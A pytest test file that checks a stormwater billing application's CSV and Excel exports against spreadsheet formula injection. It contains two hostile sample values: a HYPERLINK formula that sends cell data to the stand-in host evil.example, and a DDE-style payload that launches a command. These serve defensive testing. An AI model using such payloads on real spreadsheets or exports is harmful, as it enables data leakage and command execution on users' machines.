"""Spreadsheet formula injection (OWASP "CSV Injection"): owner-supplied text that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written as text, never as a live formula, in every CSV and Excel export (bill
run, commitment list, water/sewer import); real numbers and money stay numbers (a negative amount too)."""
from datetime import date
from decimal import Decimal as D
from io import BytesIO

import pytest
from openpyxl import load_workbook

from stormwater.receivables.services import commitment_create, demand_serve
from stormwater.utility.models import Account, BillRun
from stormwater.utility.services import bill_run_issue, fiscal_year
from stormwater.web.files import csv_text, safe_cell, xlsx_bytes

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
EVIL_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "+", "=",
                                  "- 2 ERU", "-1e5", "+41 3 555 0100"])
def test_text_that_a_spreadsheet_would_evaluate_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Shops LLC", "", "2026-07-01", "12.50", "-12.50", "+3", "-7", "0.5", ".5", "-.5",
                                   D("-12.50"), D("3"), -7, 0, 1.5, None, date(2026, 7, 1)])
def test_numbers_dates_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_csv_and_excel_writers_neutralise_text_and_keep_numbers():
    cols = ["name", "amount", "note"]
    rows = [[EVIL_NAME, "-12.50", "=cmd"], ["Shops LLC", "100.00", "-"]]
    lines = csv_text(cols, rows).splitlines()
    assert lines[1].startswith('"\'=HYPERLINK(') and ",-12.50,'=cmd" in lines[1]
    ws = load_workbook(BytesIO(xlsx_bytes("S", cols, rows, money_columns={"amount"}))).active
    (name, amount, note), (_, amount2, note2) = list(ws.iter_rows(min_row=2, values_only=False))
    assert name.data_type == "s" and name.value == "'" + EVIL_NAME
    assert note.data_type == "s" and note.value == "'=cmd" and note2.value == "'-"
    assert amount.data_type == "n" and amount.value == -12.5 and amount2.value == 100


@pytest.fixture
def evil_town(town, resolution):
    """The shops' record owner is named like a formula; its mailing address is one too."""
    owner = town["shops"].owner
    owner.name, owner.mailing_address = EVIL_NAME, EVIL_ADDRESS
    owner.save()
    town["shops"].water_sewer_account = "W-1234"
    town["shops"].save()
    label, start, end = fiscal_year(2027)
    bill_run_issue(period_label=label, period_start=start, period_end=end, issue_date=date(2026, 9, 10),
                   acting_user=None)
    return town


def _xlsx_rows(resp):
    ws = load_workbook(BytesIO(resp.getvalue())).active
    return [[c for c in row] for row in ws.iter_rows(min_row=2)]


def _no_formula(cells):
    return [c.coordinate for c in cells
            if c.data_type == "f" or (isinstance(c.value, str) and c.value[:1] in "=+-@\t\r")]


def test_bill_run_exports_write_owner_text_as_text(client_for, personas, evil_town):
    c = client_for(personas["collector"])
    run = BillRun.objects.get()
    csv = c.get(f"/bill-runs/{run.pk}/export.csv").getvalue().decode()
    shops = [ln for ln in csv.splitlines() if ",02-01-1," in ln]
    assert shops and all('"\'=HYPERLINK(' in ln and "'@SUM(1+1)" in ln for ln in shops)
    assert not any(f",{x}" in csv for x in ("=HYPERLINK", '"=HYPERLINK', "@SUM"))
    rows = _xlsx_rows(c.get(f"/bill-runs/{run.pk}/export.xlsx"))
    assert _no_formula([cell for row in rows for cell in row]) == []
    shop_rows = [r for r in rows if r[2].value == "02-01-1"]
    assert shop_rows[0][4].value == "'" + EVIL_NAME
    assert isinstance(shop_rows[0][10].value, (int, float)) and shop_rows[0][10].value == 2828.11  # annual_amount


def test_water_sewer_import_writes_owner_text_as_text(client_for, personas, evil_town):
    run = BillRun.objects.get()
    lines = client_for(personas["collector"]).get(f"/bill-runs/{run.pk}/water-sewer.csv").getvalue().decode().splitlines()
    assert len(lines) == 3 and all('"\'=HYPERLINK(' in ln for ln in lines[1:])


def test_commitment_exports_write_owner_text_as_text(client_for, personas, evil_town):
    import time_machine

    with time_machine.travel(date(2027, 6, 1), tick=False):
        demand = demand_serve(account=Account.objects.get(parcel=evil_town["shops"], unit=None),
                              served_on=date(2026, 11, 2), acting_user=None)
        com = commitment_create(tax_fiscal_year=2028, committed_on=date(2026, 11, 17), demands=[demand],
                                acting_user=None)
        c = client_for(personas["collector"])
        csv = c.get(f"/collections/commitments/{com.pk}/export.csv").getvalue().decode().splitlines()
        assert '"\'=HYPERLINK(' in csv[1]
        rows = _xlsx_rows(c.get(f"/collections/commitments/{com.pk}/export.xlsx"))
    assert _no_formula([cell for row in rows for cell in row]) == []
    assert rows[0][2].value == "'" + EVIL_NAME and rows[0][7].data_type == "n" and rows[0][7].value > 0


def test_the_export_jobs_write_owner_text_as_text(client_for, personas, evil_town, run_worker, settings):
    """The bill run's files made as jobs (jobs/kinds/exports.py) go through the same writer as the downloads:
    the job's CSV, Excel and water/sewer import neutralise formulas too."""
    from stormwater.jobs.services import job_start

    run = BillRun.objects.get()
    jobs = [job_start(kind="bill_run_export", params={"run": run.pk, "format": fmt}, acting_user=None)
            for fmt in ("csv", "xlsx")]
    jobs.append(job_start(kind="water_sewer_export", params={"run": run.pk}, acting_user=None))
    run_worker()
    for j in jobs:
        j.refresh_from_db()
        assert j.state == "succeeded", j.error
    csv_job, xlsx_job, ws_job = [(settings.MEDIA_ROOT / j.file) for j in jobs]
    for path in (csv_job, ws_job):
        text = path.read_text(encoding="utf-8")
        assert '"\'=HYPERLINK(' in text and not any(f",{x}" in text for x in ('"=HYPERLINK', "@SUM"))
    ws = load_workbook(xlsx_job).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert _no_formula(cells) == [] and any(c.value == "'" + EVIL_NAME for c in cells)
